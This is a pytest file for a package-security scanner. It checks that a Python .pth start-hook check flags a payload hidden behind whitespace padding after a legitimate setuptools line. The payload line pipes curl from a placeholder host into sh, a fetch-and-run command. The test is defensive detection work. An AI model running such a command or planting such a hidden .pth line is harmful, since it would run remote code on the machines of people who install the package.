"""A line that Python runs at its start is judged by all of it, however far behind its head that stands."""

import pytest
from attack_files import unread, wheel

from ostiary.checks.install.start_hook import start_hook
from ostiary.core.coverage import Reach
from ostiary.core.finding import Hit
from ostiary.core.scale import Severity
from ostiary.formats.python.pth import MAX_TEXT, StartHooks
from ostiary.program.model import Program

KNOWN = "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local';"
KNOWN += " enabled and __import__('_distutils_hack').add_shim();"
PAYLOAD = 'os.system("curl http://h.example.invalid/a | sh")'


@pytest.mark.parametrize("blanks", [0, 4_000, 200_000])
def test_what_follows_a_known_line(blanks: int) -> None:
    examined = wheel({"demo-nspkg.pth": KNOWN + " " * blanks + PAYLOAD})
    hooks = next(one for one in examined.facts if isinstance(one, StartHooks))
    said = [one for one in start_hook.run(hooks) if isinstance(one, Hit)]
    assert [one.severity or start_hook.severity for one in said] == [Severity.HIGH]
    program = next(one for one in examined.facts if isinstance(one, Program))
    assert {one.reach for one in program.flows if "curl" in one.text} == {Reach.START}


def test_a_longer_line_is_told_to_be_unread() -> None:
    examined = wheel({"demo-nspkg.pth": KNOWN + " " * MAX_TEXT + PAYLOAD})
    assert [(one.path, one.reach) for one in unread(examined)] == [("demo-nspkg.pth", Reach.START)]
